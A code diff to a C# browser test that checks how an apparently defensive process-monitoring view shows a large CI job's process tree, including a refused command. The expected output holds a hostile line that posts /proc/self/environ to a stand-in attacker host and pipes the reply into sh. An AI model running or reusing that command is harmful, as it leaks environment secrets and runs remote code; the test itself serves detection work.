@@ -13,6 +13,10 @@ public sealed class LargeJobTests(PostgresCluster cluster, SharedChromium chromi
     // With the few of the job around them just below what a report holds.
     private const int Many = 49_990;
 
+    // Processes of the job that they are added to, and how many of them are the first and what is below it.
+    private const int OfTheJob = 5;
+    private const int Siblings = 50;
+
     /// <summary>Begins to keep the longest time from one drawing of the browser to the next, in milliseconds.</summary>
     private const string Measure =
         """
@@ -54,6 +58,7 @@ public sealed class LargeJobTests(PostgresCluster cluster, SharedChromium chromi
         var drawn = watch.ElapsedMilliseconds;
         Assert.True(await BrowserTests.CountAsync(page, "#tab-processes small") > Many);
         Assert.InRange(await BrowserTests.CountAsync(page, "document.querySelectorAll('.rows .tr').length", isExpression: true), 2, 150);
+        await OpensOnWhatNeedsSomebodyAsync(page);
         var search = await BrowserTests.CountAsync(
             page,
             """
@@ -91,6 +96,7 @@ public sealed class LargeJobTests(PostgresCluster cluster, SharedChromium chromi
         Assert.Contains("running", await page.TextAsync("#state"), StringComparison.Ordinal);
         var before = await BrowserTests.CountAsync(page, "#tab-processes small");
         Assert.InRange(before, Many - 3_000, Many - 500);
+        await OpensOnWhatNeedsSomebodyAsync(page);
 
         // All of them are rows now; the browser draws what is in sight, wherever that is.
         await page.EvaluateAsync("[...document.querySelectorAll('#panel button')].find(button => button.textContent === 'open all').click()");
@@ -120,6 +126,32 @@ public sealed class LargeJobTests(PostgresCluster cluster, SharedChromium chromi
         Assert.Empty(page.Complaints);
     }
 
+    /// <summary>The refused curl is a row below its ancestors; of what else began there each is a row, closed.</summary>
+    private static async Task OpensOnWhatNeedsSomebodyAsync(ChromiumPage page)
+    {
+        await page.WaitAsync("document.querySelector('.rows .tr')");
+        Assert.Equal(
+            """
+            open npm (node) ci
+            git clone https://***@github.com/example/left-pad.git
+            open node install.js
+            open sh (dash) -c "curl -s -d @/proc/self/environ https://evil.example/c | sh"
+            ✗ curl -s -d @/proc/self/environ https://evil.example/c
+            closed node /work/build/worker-0.js --quiet
+            closed node /work/build/worker-50.js --quiet
+            """,
+            (string?)await page.EvaluateAsync(
+                """
+                [...document.querySelectorAll('.rows .tr')].slice(0, 7).map(row => [{ true: 'open', false: 'closed' }[row.querySelector('.toggle').ariaExpanded],
+                  row.querySelector('.sign')?.textContent, row.querySelector('.data').textContent].filter(Boolean).join(' ')).join('\n')
+                """));
+        var shown = await page.TextAsync(".shown");
+        var (rows, all) = (Amount(shown.Split(" of ")[0]), Amount(shown.Split(" of ")[1]));
+        Assert.Equal(OfTheJob + ((all - OfTheJob + Siblings - 1) / Siblings), rows);
+    }
+
+    private static int Amount(string text) => int.Parse(text, NumberStyles.AllowThousands, CultureInfo.InvariantCulture);
+
     private static IEnumerable<RecordedEvent> ManyProcesses()
     {
         var events = TestRecording.Events(DateTimeOffset.UtcNow).ToList();
@@ -133,7 +165,7 @@ public sealed class LargeJobTests(PostgresCluster cluster, SharedChromium chromi
         for (var i = 0; i < Many; i++)
         {
             var process = string.Create(CultureInfo.InvariantCulture, $"many-{i}");
-            yield return new ProcessForked(process, i % 50 == 0 ? parent : $"many-{i / 50 * 50}", 100_000 + i, null, null) { BootTimeNs = at };
+            yield return new ProcessForked(process, i % Siblings == 0 ? parent : $"many-{i / Siblings * Siblings}", 100_000 + i, null, null) { BootTimeNs = at };
             yield return new ProcessExecuted(
                 process, "/usr/bin/node", ["node", $"/work/build/worker-{i}.js", "--quiet"], false, "/work", 100_000 + i, 1000, false, null) { BootTimeNs = at };
         }
